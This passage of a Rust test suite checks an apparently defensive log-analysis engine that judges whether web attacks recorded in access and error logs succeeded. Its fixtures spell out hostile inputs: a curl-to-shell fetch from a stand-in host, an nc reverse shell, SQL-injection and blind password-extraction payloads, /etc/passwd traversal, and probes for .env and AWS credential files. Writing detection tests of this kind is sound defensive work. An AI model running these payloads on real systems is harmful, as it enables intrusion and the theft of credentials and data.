            host.sees(n as i64, &asked(format!("/api/item/{n}/{call}"), 2_000 + 97 * (n as u64 * 40 + call)));
            host.sees(n as i64, &asked(format!("/item?id={n}{call}"), 3_000 + 89 * (n as u64 * 40 + call)));
        }
        // And a few pages of its own.
        (0..9).for_each(|page| {
            _ = host.sees(n as i64, &Line { bytes: 7_000 + 31 * page, ..get("198.51.100.1", format!("/help/{page}")) })
        });
    }
    let told = host.sees(20, &Line { bytes: 1_532, ..get(ACTOR, "/.env") }).outcome.clone();
    assert_eq!(told.map(|told| told.0), Some(Outcome::Failed));
}

#[test]
fn what_was_told_to_have_worked_is_taken_back_where_everything_turns_out_to_be_answered_so() {
    let mut host = Host::new();
    let ask = |path: &str| Line { bytes: 1_532, ..get(ACTOR, path) };
    host.sees_all(0, 40, ["/.env", "/.git/config", "/wp-config.php.bak"].map(ask));
    assert_eq!(host.the_incident().outcome, Outcome::LikelySucceeded);
    host.sees_all(200, 40, ["/phpinfo.php", "/.aws/credentials", "/.env.bak", "/home"].map(ask));
    let incident = host.the_incident();
    let reason = "other paths are answered with the same (status 200, 1532 bytes)";
    assert_eq!((incident.outcome, incident.outcome_reason.as_str()), (Outcome::Failed, reason));
    assert!(incident.score < 80 && incident.phases.iter().all(|(phase, _)| *phase != Phase::Success), "{incident:#?}");
    assert_eq!(host.revisions().last().map(|last| last.outcome), Some(Outcome::Failed));
}

#[test]
fn a_host_that_sends_everybody_to_https_follows_nobodys_redirect() {
    let evil = |bytes| Line { status: 301, bytes, ..get(ACTOR, "/?next=//evil.example/") };
    let outcome = |host: &mut Host, line: &Line| host.sees(100, line).outcome.clone().unwrap();
    let sent_on = "whoever asks is sent on, whatever is asked for (status 301)";
    // One page of nginx for all; Apache's repeats what was asked for; visitors of one page alone.
    let mut host = Host::new();
    visit_application(&mut host, 301, 162);
    assert_eq!(outcome(&mut host, &evil(162)), (Outcome::Unknown, sent_on.to_owned()));
    let mut host = Host::new();
    for path in ["/", "/home", "/about?a=1&b=2", "/cart", "/login", "/user/1"] {
        let bytes = 230 + path.len() as u64 + if path.contains('&') { 4 } else { 0 };
        host.sees(0, &Line { status: 301, bytes, ..get("198.51.100.1", path) });
    }
    assert_eq!(outcome(&mut host, &evil(252)).0, Outcome::Unknown);
    let mut host = Host::new();
    host.sees_all(0, 1, (0..3).map(|_| Line { status: 301, bytes: 230, ..get("198.51.100.1", "/") }));
    assert_eq!(outcome(&mut host, &evil(245)).0, Outcome::Unknown);
    // A site some of whose pages send visitors on, as after a login.
    let mut host = Host::new();
    for n in 0..20 {
        host.sees(n, &get("198.51.100.1", format!("/page/{n}")));
        host.sees(n, &Line { status: 302, bytes: 0, ..get("198.51.100.1", format!("/cart/add/{n}")) });
    }
    let evil = Line { status: 302, bytes: 0, ..get(ACTOR, "/go?url=//evil.example/") };
    assert_eq!(outcome(&mut host, &evil).0, Outcome::LikelySucceeded);
}

#[test]
fn the_answers_of_one_site_say_nothing_of_another_one_of_the_same_host() {
    let mut common = Recent::<Common>::of(4);
    let known = |common: &mut Recent<Common>, site: u64, path: u64| {
        let request = Request { hash: path, ..Request::of(&Access::default(), Key::of("h")) };
        common.entry(site, Common::default).note(&request, false)
    };
    (0..5).for_each(|path| assert!(!known(&mut common, 1, path).is_common));
    assert!(!known(&mut common, 1, 4).is_common, "five paths, with its own");
    let sixth = known(&mut common, 1, 5);
    assert!(sixth.is_common && sixth.is_news);
    assert!(!known(&mut common, 2, 6).is_common && known(&mut common, 1, 6).is_common);
}

#[test]
fn what_a_page_of_a_front_controller_holds_is_not_compared_with_other_pages() {
    let mut host = Host::new();
    let page = |n: i64, page: &str| get("198.51.100.1", format!("/index.php?page={page}&n={n}"));
    host.sees_all(0, 1, (0..12).map(|n| page(n, "home")));
    let attack = |page: &str| Line { bytes: 9_000, ..get(ACTOR, format!("/index.php?page={page}%27+and+1=1--")) };
    assert_eq!(host.sees(20, &attack("terms")).outcome.as_ref().unwrap().0, Outcome::Unknown);
    assert_eq!(host.sees(21, &attack("home")).outcome.as_ref().unwrap().0, Outcome::LikelySucceeded);
    // Nor with the only one that anybody looked at.
    let mut host = Host::new();
    host.sees_all(0, 1, (0..12).map(|_| get("198.51.100.1", "/?p=1")));
    let attack = Line { bytes: 9_000, ..get(ACTOR, "/?p=2%27+and+1=1--") };
    assert_eq!(host.sees(20, &attack).outcome.as_ref().unwrap().0, Outcome::Unknown);
}

#[test]
fn an_answer_as_long_as_usual_says_nothing_of_what_runs_unseen() {
    let mut host = Host::new();
    host.sees_all(0, 1, (0..9).map(|n| get("198.51.100.1", format!("/ping?ip={n}"))));
    for value in [
        "1;sleep+9",
        "1;id",
        "1;curl+http://e.example/a|sh",
        "%7B%7B7*7%7D%7D",
        "system('id')",
        "http://e.example/x.php?",
    ] {
        let told = host.sees(20, &get(ACTOR, format!("/ping?ip={value}"))).outcome.clone().unwrap();
        let reason = "its answer is as long as others of the path (5000 bytes), which says nothing of what runs unseen";
        assert_eq!(told, (Outcome::Unknown, reason.to_owned()), "{value}");
    }
    let read = host.sees(21, &get(ACTOR, "/ping?ip=../../../../etc/passwd")).outcome.clone().unwrap();
    assert_eq!(read, (Outcome::Failed, "its answer is as long as others of the path (5000 bytes)".to_owned()));
    // What is read shows, whoever reads it.
    let longer = Line { bytes: 7_000, ..get(ACTOR, "/ping?ip=1;id") };
    assert_eq!(host.sees(22, &longer).outcome.as_ref().unwrap().0, Outcome::LikelySucceeded);
}

#[test]
fn an_error_is_joined_with_its_request_whichever_is_read_first() {
    let attack =
        Line { status: 500, bytes: 295, ..get(ACTOR, "/sqli/?id=1%27+and+updatexml(1,concat(0x7e,user()),1)--+-") };
    let complaint = "PHP Fatal error:  Uncaught mysqli_sql_exception: XPATH syntax error: '~dvwa' in /l.php:1";
    let leaked =
        Some((Outcome::LikelySucceeded, "the database answered an injected query in its error message".to_owned()));
    let mut host = Host::new();
    assert_eq!(host.sees(0, &attack).outcome.as_ref().unwrap().0, Outcome::Unknown);
    assert_eq!(host.reads(1, Some(ACTOR), complaint).outcome, leaked);
    assert_eq!(host.the_incident().outcome, Outcome::LikelySucceeded);
    let mut host = Host::new();
    host.reads(0, Some(ACTOR), complaint);
    assert_eq!(host.sees(1, &attack).outcome, leaked);
    assert_eq!(host.the_incident().findings, 2);
}

#[test]
fn a_command_in_a_posts_body_shows_in_what_the_shell_complains_of() {
    let mut host = Host::new();
    host.sees(0, &Line { status: 200, ..post(ACTOR, "/exec/") });
    host.reads(1, None, "sh: 1: nslookup: not found");
    let incident = host.the_incident();
    assert_eq!((incident.actor.as_str(), incident.outcome), (ACTOR, Outcome::LikelySucceeded));
    assert_eq!(incident.behaviour, ["a shell ran what was sent, and complained of it"]);
}

#[test]
fn a_complaint_that_names_nobody_is_nobodys_where_several_may_be_meant() {
    let shell = "sh: 1: nc: not found";
    let exec = |client: &str| Line { status: 200, ..post(client, "/tools/ping.php") };
    let mut host = Host::new();
    host.sees(0, &exec(ACTOR));
    host.sees(1, &post("198.51.100.20", "/checkout"));
    assert_eq!(host.reads(1, None, shell), &Told::default());
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
    host.sees(10, &exec(ACTOR));
    host.sees(11, &exec(ACTOR));
    host.reads(11, None, shell);
    assert_eq!(host.the_incident().actor, ACTOR);
    // Nor does it tell of two attackers which one it was.
    let mut host = Host::new();
    let inject = |client: &str| get(client, "/ping?ip=1;nc+-e+/bin/sh+192.0.2.1+99");
    host.sees(0, &inject(ACTOR));
    host.sees(0, &inject("198.51.100.20"));
    host.reads(1, None, shell);
    assert!(
        host.incidents().iter().all(|incident| incident.outcome < Outcome::LikelySucceeded),
        "{:#?}",
        host.incidents()
    );
}

#[test]
fn one_error_of_the_database_may_be_a_fault_of_the_application() {
    let mut host = Host::new();
    let complaint = "PHP Fatal error:  Uncaught mysqli_sql_exception: You have an error in your SQL syntax";
    host.reads(0, Some("198.51.100.1"), complaint);
    assert_eq!(host.incidents().len(), 0);
    host.reads(9, Some("198.51.100.1"), complaint);
    assert_eq!(host.the_incident().categories[&Category::Sqli], 2);
}

#[test]
fn ordinary_faults_of_a_site_are_no_incidents_of_its_visitors() {
    let mut host = Host::new();
    for n in 0..20 {
        let client = format!("198.51.100.{}", n % 4);
        host.sees(n * 5, &post(&client, "/contact"));
        for fault in ["[2002] Connection refused", "[1040] Too many connections"] {
            let message = format!("PHP Fatal error:  Uncaught PDOException: SQLSTATE[HY000] {fault} in /srv/db.php:3");
            host.reads(n * 5, Some(&client), &message);
        }
        let table = "PHP Fatal error:  Uncaught mysqli_sql_exception: Table 'shop.x' doesn't exist in /srv/db.php:3";
        host.reads(n * 5, Some(&client), table);
        host.reads(n * 5 + 1, None, "sh: 1: /usr/sbin/sendmail: not found");
        host.reads(n * 5 + 1, None, "sh: 1: convert: not found");
        host.reads(n * 5 + 1, None, "sh: 1: our-renderer: not found");
    }
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
}

#[test]
fn a_column_that_is_not_there_tells_of_a_known_injection() {
    let mut host = Host::new();
    host.sees(0, &Line { status: 500, ..get(ACTOR, "/item?id=1%27+union+select+1,2--+-") });
    host.reads(0, Some(ACTOR), "PHP Fatal error:  Uncaught mysqli_sql_exception: Unknown column '2' in 'order clause'");
    assert_eq!(host.the_incident().outcome, Outcome::LikelySucceeded);
}

#[test]
fn two_commands_that_a_shell_does_not_know_show_who_sent_them() {
    let mut host = Host::new();
    host.sees(0, &Line { status: 200, ..post(ACTOR, "/exec/") });
    host.reads(0, None, "sh: 1: foo: not found");
    assert_eq!(host.incidents().len(), 0);
    host.sees(9, &Line { status: 200, ..post(ACTOR, "/exec/") });
    host.reads(9, None, "sh: 1: bar: not found");
    let incident = host.the_incident();
    assert_eq!((incident.actor.as_str(), incident.outcome), (ACTOR, Outcome::LikelySucceeded));
    assert_eq!(incident.categories[&Category::Cmdi], 2);
}

#[test]
fn nobody_writes_into_the_error_log_that_his_attack_worked() {
    let mut host = Host::new();
    host.sees(0, &Line { status: 403, ..get(ACTOR, "/item?id=1%27+union+select+1,2--+-") });
    for message in [
        "AH01630: client denied by server configuration: /var/www/html/XPATH syntax error: '~x",
        "script '/var/www/html/XPATH syntax error.php' not found or unable to stat",
        "PHP Warning:  Undefined array key \"Duplicate entry '~\" in /srv/x.php on line 3",
    ] {
        host.reads(0, Some(ACTOR), message);
    }
    assert_eq!(host.the_incident().outcome, Outcome::Failed, "there is no such script");
}

#[test]
fn what_a_server_compresses_for_browsers_is_not_compared_with_what_it_sends_to_programs() {
    let shop = |host: &mut Host| {
        for n in 0..60 {
            let (id, bytes) = (n % 3, [3_611, 3_702, 3_688][n as usize % 3]);
            let visitor = format!("198.51.100.{}", n % 20);
            host.sees(n, &Line { bytes, referer: "http://h.lab/", ..get(&visitor, format!("/news?id={id}")) });
        }
    };
    let attack = |agent, n: i64, bytes| Line { bytes, agent, ..get(ACTOR, format!("/news?id=1%27+AND+{n}={n}--+-")) };
    let told = |told: &Told| told.outcome.as_ref().unwrap().0;
    for agent in ["curl/8.5", "sqlmap/1.8.4#stable (https://sqlmap.org)"] {
        let mut host = Host::new();
        shop(&mut host);
        host.sees(90, &Line { bytes: 13_950, agent, ..get(ACTOR, "/news?id=1") });
        (0..70).for_each(|n| assert_eq!(told(host.sees(100 + n, &attack(agent, n, 13_950))), Outcome::Unknown));
        assert_eq!(host.the_incident().outcome, Outcome::Unknown);
        // What is longer than it was for those before stands out, whoever asks.
        assert_eq!(told(host.sees(180, &attack(agent, 71, 19_950))), Outcome::LikelySucceeded);
    }
    // A browser's is compared with browsers'; and what a harmless request got before is nothing stolen.
    let mut host = Host::new();
    shop(&mut host);
    assert_eq!(told(host.sees(100, &attack(FIREFOX, 1, 13_950))), Outcome::LikelySucceeded);
    let mut host = Host::new();
    shop(&mut host);
    host.sees(90, &Line { bytes: 13_950, ..get(ACTOR, "/news?id=1") });
    assert_eq!(told(host.sees(100, &attack(FIREFOX, 1, 13_950))), Outcome::Unknown);
}

#[test]
fn a_page_that_has_grown_for_all_shows_nothing_that_was_stolen() {
    let mut host = Host::new();
    let visit = |n: i64, bytes: u64| Line {
        bytes: bytes + n as u64 % 4 * 7,
        ..get(&format!("198.51.100.{}", n % 90), format!("/?utm_source=s{n}"))
    };
    (0..5_000).for_each(|n| _ = host.sees(n, &visit(n, 14_000)));
    (5_000..5_040).for_each(|n| _ = host.sees(n, &visit(n, 15_200)));
    let attack = |bytes| Line { bytes, ..get(ACTOR, "/?id=1%27+UNION+SELECT+1,2,3--+-") };
    assert_eq!(host.sees(5_041, &attack(15_200)).outcome.as_ref().unwrap().0, Outcome::Unknown);
    assert_eq!(host.sees(5_042, &attack(19_000)).outcome.as_ref().unwrap().0, Outcome::LikelySucceeded);
}

/// Visitors of many pages whose lengths lie close together.
fn visit_shop(host: &mut Host, pages: i64) {
    for n in 0..pages {
        let line = get(&format!("198.51.100.{}", n % 90), format!("/p/{n}"));
        host.sees(n / 10, &Line { bytes: 8_000 + (n as u64 * 2_654_435_761) % 4_000, agent: "Mozilla/5.0", ..line });
    }
}

#[test]
fn a_file_that_happens_to_be_as_long_as_a_few_pages_of_many_is_there() {
    let mut host = Host::new();
    visit_shop(&mut host, 2_000);
    let leak = |n: u64| Line { bytes: 8_000 + n * 100, agent: "curl/8.5", ..get(ACTOR, "/.git/index") };
    for n in 0..40 {
        let told = host.sees(300, &leak(n)).outcome.clone().unwrap();
        assert_eq!(told.0, Outcome::LikelySucceeded, "{} bytes: {}", 8_000 + n * 100, told.1);
    }
    // Nor is it taken back for what others ask for later.
    let mut host = Host::new();
    visit_shop(&mut host, 200);
    host.sees(300, &Line { bytes: 812, agent: "curl/8.5", ..get(ACTOR, "/.env") });
    (0..8).for_each(|n| _ = host.sees(301, &Line { bytes: 812, ..get("198.51.100.7", format!("/news/{n}")) }));
    assert_eq!(host.the_incident().outcome, Outcome::LikelySucceeded);
}

#[test]
fn what_a_busy_site_answers_to_whatever_is_looked_for_shows_nothing() {
    let mut host = Host::new();
    visit_shop(&mut host, 2_000);
    let ask = |path: &str| Line { bytes: 1_532, agent: "curl/8.5", ..get(ACTOR, path) };
    let files = ["/.env", "/.git/config", "/wp-config.php.bak", "/phpinfo.php", "/.aws/credentials", "/.env.bak"];
    host.sees_all(300, 40, files.map(ask));
    let incident = host.the_incident();
    let reason = "other paths are answered with the same (status 200, 1532 bytes)";
    assert_eq!((incident.outcome, incident.outcome_reason.as_str()), (Outcome::Failed, reason));
    // That is known for who comes next, and says nothing of a file that has another length.
    let next = |bytes, path: &str| Line { bytes, client: "203.0.113.9".into(), ..ask(path) };
    assert_eq!(host.sees(900, &next(1_532, "/.env.old")).outcome.as_ref().unwrap().0, Outcome::Failed);
    assert_eq!(host.sees(901, &next(215, "/.env")).outcome.as_ref().unwrap().0, Outcome::LikelySucceeded);
    // Of a folder of git's that is fetched as a whole, many parts are as long as others.
    let mut host = Host::new();
    visit_shop(&mut host, 200);
    let part = |n: u64| {
        let name = format!("/.git/objects/{:02x}/{n:038x}", n % 256);
        Line { bytes: 120 + n % 10, agent: "curl/8.5", ..get(ACTOR, name) }
    };
    for n in 0..400 {
        let told = host.sees(300 + n as i64, &part(n)).outcome.clone().unwrap();
        assert_eq!(told.0, Outcome::LikelySucceeded, "part {n}: {}", told.1);
    }
}

#[test]
fn a_fault_that_a_sites_visitors_meet_too_shows_no_attack_that_worked() {
    let faults = [
        "WordPress database error Table 'shop.wp_stats' doesn't exist for query SELECT * FROM wp_stats WHERE day = ",
        "PHP Warning:  mysqli_query(): (HY000/1146): Table 'shop.hits' doesn't exist in /var/www/inc/stats.php on line ",
    ];
    let attack = get(ACTOR, "/?p=1%27+AND+1=1--+-");
    for fault in faults {
        for is_error_first in [false, true] {
            let mut host = Host::new();
            for n in 0..20 {
                let visitor = format!("198.51.100.{}", n % 9);
                host.sees(n * 15, &get(&visitor, format!("/?p={n}")));
                host.reads(n * 15, Some(&visitor), &format!("{fault}'{n}'"));
            }
            if is_error_first {
                host.reads(400, Some(ACTOR), &format!("{fault}'7'"));
            }
            host.sees(400, &attack);
            if !is_error_first {
                host.reads(400, Some(ACTOR), &format!("{fault}'7'"));
            }
            assert_eq!(host.the_incident().outcome, Outcome::Unknown, "{fault}");
            // What no visitor's request brings about tells.
            host.sees(401, &attack);
            host.reads(
                401,
                Some(ACTOR),
                "PHP Warning:  mysqli_query(): (42S22/1054): Unknown column '7' in 'order clause'",
            );
            assert_eq!(host.the_incident().outcome, Outcome::LikelySucceeded, "{fault}");
        }
    }
    // An attacker's own complaints of before are no visitors'.
    let mut host = Host::new();
    let column = "PHP Warning:  mysqli_query(): (42S22/1054): Unknown column '7' in 'order clause'";
    (0..5).for_each(|n| _ = host.reads(n * 60, Some(ACTOR), column));
    host.sees(400, &attack);
    host.reads(400, Some(ACTOR), column);
    assert_eq!(host.the_incident().outcome, Outcome::LikelySucceeded);
}

#[test]
fn conditions_that_differ_in_numbers_alone_and_get_two_answers_read_what_they_ask_for() {
    let ask = |n: u64, is_long: bool| {
        let target = format!("/item?id=1%20AND%20ORD(MID((SELECT%20pass%20FROM%20users),{},1))%3E{}", n / 7, n % 128);
        Line { bytes: if is_long { 8_112 } else { 1_200 }, agent: "sqlmap/1.8", ..get(ACTOR, target) }
    };
    let mut host = Host::new();
    (0..200).for_each(|n: u64| _ = host.sees(n as i64 / 4, &ask(n, n.is_multiple_of(3))));
    let incident = host.the_incident();
    assert_eq!(incident.outcome, Outcome::LikelySucceeded);
    let reason = "a condition was answered in one way or the other, depending on the numbers in it";
    assert!(incident.outcome_reason.starts_with(reason), "{}", incident.outcome_reason);
    // Each line is counted once, whatever it is found by.
    assert_eq!((incident.categories[&Category::Sqli], incident.findings), (200, 200));
    // Payloads of all kinds, of which each kind has its own answer.
    let probe = |n: u64| match n.is_multiple_of(2) {
        true => Line { bytes: 8_112, ..get(ACTOR, format!("/item?id=1%27%20AND%20{n}={n}--%20-")) },
        false => Line { bytes: 1_200, ..get(ACTOR, format!("/item?id=1%20UNION%20SELECT%20{n},{n}--%20-")) },
    };
    let mut host = Host::new();
    (0..200).for_each(|n| _ = host.sees(n as i64 / 4, &probe(n)));
    assert_eq!(host.the_incident().outcome, Outcome::Unknown);
}

#[test]
fn a_line_is_counted_once_in_a_category_that_it_is_of_by_itself_and_with_others() {
    let ask = |n: i64| Line { status: 404, agent: "Fuzz Faster U Fool v2.1.0", ..get(ACTOR, format!("/d{n}")) };
    let mut host = Host::new();
    host.sees_all(0, 0, (0..300).map(ask));
    let incident = host.the_incident();
    assert_eq!((incident.categories[&Category::Recon], incident.findings), (300, 300), "{incident:#?}");
}

#[test]
fn what_php_says_of_one_file_says_nothing_of_the_next_one() {
    let mut host = Host::new();
    let page =
        |n: i64| Line { bytes: 10_800 + n as u64 % 3 * 900, ..get("198.51.100.1", format!("/index.php?page=p{n}")) };
    host.sees_all(0, 1, (0..40).map(page));
    let ask = |file: &str, bytes| Line { bytes, agent: "x", ..get(ACTOR, format!("/index.php?page=../{file}")) };
    let miss = |host: &mut Host, file: &str| {
        for message in
            [format!("include(../{file}): Failed to open stream"), format!("include(): Failed opening '../{file}'")]
        {
            host.reads(100, Some(ACTOR), &format!("PHP Warning:  {message} for inclusion"));
        }
        host.sees(100, &ask(file, 3_200)).outcome.clone().unwrap()
    };
    for n in 0..9 {
        let (outcome, reason) = miss(&mut host, &format!("etc/shadow{n}"));
        assert_eq!((outcome, reason.as_str()), (Outcome::Failed, "PHP tried to include a file that is not there"));
    }
    // What was read shows, and what was not complained of is not known.
    let told = host.sees(100, &ask("etc/passwd", 18_854)).outcome.clone().unwrap();
    assert_eq!(told.0, Outcome::LikelySucceeded, "{}", told.1);
    miss(&mut host, "etc/group");
    let told = host.sees(100, &ask("etc/hosts", 3_210)).outcome.clone().unwrap();
    assert_eq!(told.0, Outcome::Unknown, "{}", told.1);
}

#[test]
fn who_works_with_a_databases_tool_is_no_incident() {
    let tool = |target: &str, referer| Line { referer, ..get("198.51.100.1", target) };
    let from = "https://db.example/phpmyadmin/index.php?route=/";
    let mut host = Host::new();
    host.sees(0, &tool("/phpmyadmin/", "-"));
    host.sees_all(1, 0, (0..5).map(|n| tool(&format!("/phpmyadmin/js/dist/f{n}.js"), from)));
    host.sees(9, &Line { referer: from, ..post("198.51.100.1", "/phpmyadmin/index.php?route=/") });
    let sql = "SELECT+%2A+FROM+%60orders%60+ORDER+BY+%60orders%60.%60id%60+DESC";
    for n in 0..100 {
        let page = format!("/phpmyadmin/index.php?route=/sql&db=shop&table=orders&pos={}", n * 25);
        host.sees(20 + n * 9, &tool(&page, from));
        host.sees(24 + n * 9, &tool(&format!("{page}&sql_query={sql}&ajax_request=true"), from));
    }
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
    // Adminer is one file, and so are its parts.
    let from = "http://db.lab/adminer.php?username=root&db=shop";
    let mut host = Host::new();
    host.sees(0, &tool("/adminer.php", "-"));
    host.sees(1, &tool("/adminer.php?file=default.css&version=4.8.1", from));
    for n in 0..20 {
        let page = format!("/adminer.php?username=root&db=shop&select=orders&where%5B0%5D%5Bval%5D={n}");
        host.sees(9 + n * 9, &tool(&page, from));
    }
    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
    let from = "https://db.example/phpmyadmin/index.php?route=/";
    host.sees(190, &tool("/phpmyadmin/js/dist/f0.js", from));
    // Who was on no page of it, or sends it something else than its SQL.
    let query = format!("/phpmyadmin/index.php?route=/sql&db=shop&sql_query={sql}");
    (0..3).for_each(|n| _ = host.sees(300 + n, &get(ACTOR, query.clone())));
    assert!(host.the_incident().categories.contains_key(&Category::Sqli), "{:#?}", host.incidents());
    host.sees(310, &tool("/phpmyadmin/index.php?route=/sql&table=1%27+union+select+1,2--+-", from));
    assert_eq!(host.incidents().len(), 2);
}

#[test]
fn a_source_that_only_visits_is_known_in_little_room() {
    assert!(size_of::<Source>() <= 128, "{}", size_of::<Source>());
    let mut engine = Host::new();
    let empty = serde_json::to_string(&engine.engine).unwrap().len();
    engine.sees_all(0, 1, (0..100).map(|n| get(&format!("198.51.100.{n}"), "/")));
    let each = (serde_json::to_string(&engine.engine).unwrap().len() - empty) / 100;
    assert!(each <= 150, "{each} bytes of a snapshot");
    engine.engine.pass(NOON + 3 * 3_600_000);
    assert_eq!(engine.engine.state.sources.len(), 0);
}

/// Lines of a few clients who do a little of everything, at times that jump.
fn lines() -> impl Strategy<Value = Vec<(i64, Line)>> {
    let client = (0u8..3, 0u8..5).prop_map(|(net, host)| format!("10.0.{net}.{host}"));
    let what = prop_oneof![
        (0usize..3, 0usize..40).prop_map(|(user, password)| guess(user, password)),
        (0u16..60).prop_map(|n| Line { status: 404, ..get("", format!("/x{n}")) }),
        (0u16..60).prop_map(|n| get("", format!("/invoice?id={n}"))),
        (0u16..60, 0u64..2).prop_map(|(n, two)| Line { bytes: 90 + two * 500, ..get("", format!("/item?k=f({n})")) }),
        Just(post("", "/login.php")),
        Just(Line { bytes: 640, ..post("", "/login.php") }),
        (0u16..12).prop_map(|n| Line { bytes: 215, ..get("", format!("/.env.{n}")) }),
        Just(post("", "/upload")),
        Just(get("", "/uploads/x.php")),
        Just(get("", "/item?id=1%27+union+select+1,2--+-")),
        Just(get("", "/style.css")),
        Just(Line { referer: "http://h.lab/item", ..get("", "/delete?id=1") }),
    ];
    let time = prop_oneof![8 => 0i64..120, 1 => -4_000i64..4_000];
    prop::collection::vec((time, client, what).prop_map(|(at, client, line)| (at, Line { client, ..line })), 0..300)
}

fn small() -> Limits {
    Limits { sources: 8, paths: 4, incidents: 3, ..Limits::default() }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn a_restart_anywhere_changes_nothing(lines in lines(), restart in 0usize..300) {
        let (mut one, mut other) = (Host::new(), Host::new());
        one.engine = Engine::new("h", small());
        other.engine = Engine::new("h", small());
        for (at, (seconds, line)) in lines.iter().enumerate() {
            if at == restart {
                let snapshot = serde_json::to_string(&other.engine).unwrap();
                other.engine = serde_json::from_str(&snapshot).unwrap();
            }
            prop_assert_eq!(one.sees(*seconds, line), other.sees(*seconds, line));
        }
        let end = NOON + 9_000_000;
        prop_assert_eq!(one.engine.pass(end), other.engine.pass(end));
        prop_assert_eq!(serde_json::to_string(&one.engine).unwrap(), serde_json::to_string(&other.engine).unwrap());
    }

    #[test]
    fn revisions_rise_one_by_one_and_nothing_that_was_seen_is_lost_from_them(lines in lines()) {
        let mut host = Host::new();
        host.engine = Engine::new("h", small());
        lines.iter().for_each(|(seconds, line)| _ = host.sees(*seconds, line));
        let mut last: std::collections::HashMap<EventId, &Incident> = Default::default();
        for incident in host.revisions() {
            let before = last.insert(incident.id, incident);
            prop_assert_eq!(incident.revision, before.map_or(0, |before| before.revision) + 1);
            prop_assert!(before.is_none_or(|before| !before.is_over && before.findings <= incident.findings));
            // An outcome falls only where what looked like a success was something else.
            let has_worked = |one: &Incident| one.outcome == Outcome::LikelySucceeded;
            prop_assert!(before.is_none_or(|before| has_worked(before) || before.outcome <= incident.outcome));
            prop_assert_eq!(has_worked(incident), incident.phases.iter().any(|(phase, _)| *phase == Phase::Success));
            prop_assert!(incident.findings <= incident.requests && incident.first_seen <= incident.last_seen);
            prop_assert!((1..=100).contains(&incident.score) && !incident.categories.is_empty());
        }
    }

    #[test]
    fn memory_is_bounded_whatever_is_sent(seeds in prop::collection::vec(any::<(u128, i64, u64)>(), 400)) {
        let limits = Limits { sources: 50, paths: 20, incidents: 10, ..Limits::default() };
        let mut engine = Engine::new("h", limits);
        for (n, (address, at, bytes)) in seeds.into_iter().enumerate() {
            let target = format!("/{address:x}?id=1%27+union+select+{n},2--+-&password=REDACTED-{n}");
            let text = format!(r#"{} - - [16/Nov/2026:12:00:00 +0000] "GET {target} HTTP/1.1" 200 {bytes} "-" "{address}""#, std::net::Ipv6Addr::from(address));
            let parsed = Format::Combined.parse(text.as_bytes());
            let (access, client) = (parsed.access().unwrap(), parsed.client_ip().unwrap());
            let attack = CLASSIFIER.classify(access);
            let line = super::Line::Access { client, access, attack: attack.as_ref() };
            engine.observe(&Seen { place: place(n as u64), at, line });
            let state = &engine.state;
            prop_assert!(state.sources.len() <= 50 && state.sizes.len() <= 20 && state.networks.len() <= 6);
            prop_assert!(state.alike.len() <= 6 && state.common.len() <= SITES_MAX && state.faults.len() <= FAULTS_MAX);
            prop_assert!(state.attacks.len() <= JOINED_MAX && state.complaints.len() <= JOINED_MAX && state.hosts.len() <= HOSTS_MAX);
            prop_assert!(engine.incidents().count() <= 10 + 100);
        }
    }
}
